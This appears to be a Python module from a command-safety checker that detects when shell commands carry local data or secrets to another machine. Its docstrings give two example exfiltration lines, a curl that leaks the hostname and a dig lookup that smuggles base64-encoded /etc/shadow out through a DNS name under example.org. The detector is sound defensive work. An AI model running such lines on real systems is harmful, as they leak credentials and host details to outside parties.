"""Data that a script carries to another machine: of a file, of a command, a secret from elsewhere.

``curl https://example.org/$(hostname)`` reads a page, and tells whoever keeps that page how this
machine is called. What is carried is followed by ``Source``: whose text became part of a command.
"""

import re
from collections.abc import Iterable, Iterator
from collections.abc import Set as AbstractSet

from vigil.domain.effects import EffectKind
from vigil.guard.findings import Finding, Mark
from vigil.guard.program import UNRESOLVED, Command, Span

_LONGEST = 2_000
"""Characters of an address; what is longer names no machine."""
_MILD = frozenset({EffectKind.READ, EffectKind.REVERSIBLE})
_CHOSEN = frozenset({"-", "?", "file", "git", "host", "image", "mail", "network", "package"})
"""Kinds of resources of commands that say in their words which machine they talk to; the others
talk to one that was set up before."""
_ADDRESS = re.compile(
    r"@?(?:\w+://|[\w.-]+@)?(?:\[[\da-fA-F:]+\]|[\w-]+(?:\.[\w-]+)+|localhost)\S*"
)
_HERE = re.compile(r"(?:\w+://)?(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|0\.0\.0\.0)(?:[:/?].*)?")
_ONLY_AN_ADDRESS = re.compile(
    rf"(?:\w+://)?(?:[\w.-]+@)?{UNRESOLVED}(?::\d+)?(?:[/?#][^{UNRESOLVED}]*)?"
)
"""The whole name of a machine is not known: what stands there is looked up, and told to nobody."""


def carries(command: Command) -> bool:
    """Whether what other commands print becomes part of it: of its words, or of what it reads."""
    return bool(command.words_from or command.fed_by)


def with_requests(command: Command, findings: Iterable[Finding]) -> Iterator[Finding]:
    """A command that talks to a machine of its choice tells it what stands in its words."""
    sources = command.words_from
    tells = any(one.tells for one in sources) and (
        _tells_another(command) or any(one.adds for one in sources)
    )
    if not tells:
        yield from findings
        return
    found = tuple(findings)
    machines = (f.resource.removeprefix("target:").strip("?.") for f in found)
    elsewhere = any(map(_ADDRESS.fullmatch, machines))
    for finding in found:
        kind, _, _ = finding.resource.partition(":")
        if Mark.NETWORK in finding.marks and (elsewhere or kind in _CHOSEN):
            yield _sent(finding)
        else:
            yield finding


def _tells_another(command: Command) -> bool:
    words = [word.unsplit or word.text for word in command.words[1:]]
    carrying = [text for text in words if UNRESOLVED in text or "*" in text]
    others = [text for text in words if text not in carrying and len(text) <= _LONGEST]
    known = [text for text in others if _ADDRESS.fullmatch(text)]
    if not carrying or (known and all(map(_HERE.fullmatch, known))):
        return False
    if all(map(_HERE.match, carrying)):
        return False
    return bool(known) or not all(map(_ONLY_AN_ADDRESS.fullmatch, carrying))


def with_leaks(findings: Iterable[Finding], carriers: AbstractSet[Span]) -> Iterator[Finding]:
    """A command that talks to another machine, and carries something, may well carry the secret.

    Which text goes where is not followed: ``dig $(base64 /etc/shadow).example.org`` is one name to
    look up, and the whole file.
    """
    found = tuple(findings)
    reads = any(Mark.READS_SENSITIVE in finding.marks for finding in found)
    for finding in found:
        carried = reads and Mark.NETWORK in finding.marks and finding.span in carriers
        yield _sent(finding) if carried else finding


def _sent(finding: Finding) -> Finding:
    kind = EffectKind.DISRUPTIVE if finding.kind in _MILD else finding.kind
    return finding._replace(kind=kind, marks=finding.marks | {Mark.SENDS_OUT})
